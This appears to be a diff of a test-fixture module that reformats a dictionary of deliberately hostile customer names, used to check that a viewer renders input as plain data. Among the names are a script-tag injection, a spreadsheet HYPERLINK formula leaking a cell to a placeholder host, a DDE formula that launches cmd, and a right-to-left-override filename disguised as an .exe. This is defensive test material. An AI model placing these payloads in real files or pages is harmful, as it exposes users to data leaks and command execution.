@@ -49,19 +49,33 @@ IMPORTER = "import-bot"
 AGENTS = (
     "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
-    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18 Safari/605",
 )
 INTRUDER_AGENT = "curl/8.5.0"
 
 # Names that try a viewer: other scripts, both directions, emoji, markup, spreadsheet formulas, a right-to-left
 # override. They are data and must be shown as such.
 CUSTOMERS = {
-    300: "Harbor Freight", 301: "Lumen Bakery", 302: "Café Zürich 🍰", 303: "شركة الميناء للتأمين",
-    304: "株式会社 東京海運", 305: "<b>Bold & Co</b><script>alert('x')</script>",
-    306: "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Open invoice\")", 307: "@SUM(1+1)*cmd|' /C calc'!A0",
-    308: "+44 Logistics", 309: "-2+3 Arithmetic Ltd", 310: "Ærø Færgeselskab", 311: "Quay & Sons Boatyard",
-    312: "Family 👩‍👩‍👧 Travel", 313: "בית הדפוס של חיפה", 314: "invoice\u202egnp.exe", 315: "O'Brien \"Bob\" \\ Partners",
-    316: "Smith\tTabular", 317: "Straße & Söhne GmbH", 318: "Łódź Textiles", 319: "Ωmega Shipping",
+    300: "Harbor Freight",
+    301: "Lumen Bakery",
+    302: "Café Zürich 🍰",
+    303: "شركة الميناء للتأمين",
+    304: "株式会社 東京海運",
+    305: "<b>Bold & Co</b><script>alert('x')</script>",
+    306: '=HYPERLINK("http://example.invalid/?leak="&A1,"Open invoice")',
+    307: "@SUM(1+1)*cmd|' /C calc'!A0",
+    308: "+44 Logistics",
+    309: "-2+3 Arithmetic Ltd",
+    310: "Ærø Færgeselskab",
+    311: "Quay & Sons Boatyard",
+    312: "Family 👩‍👩‍👧 Travel",
+    313: "בית הדפוס של חיפה",
+    314: "invoice\u202egnp.exe",
+    315: 'O\'Brien "Bob" \\ Partners',
+    316: "Smith\tTabular",
+    317: "Straße & Söhne GmbH",
+    318: "Łódź Textiles",
+    319: "Ωmega Shipping",
 }
 TAGS = {1: "Critical", 2: "Review", 3: "Fleet", 4: "Legacy", 5: "VIP", 6: "Broker", 7: "Marine"}
 STATUSES = ("draft", "pending", "approved", "active", "lapsed")
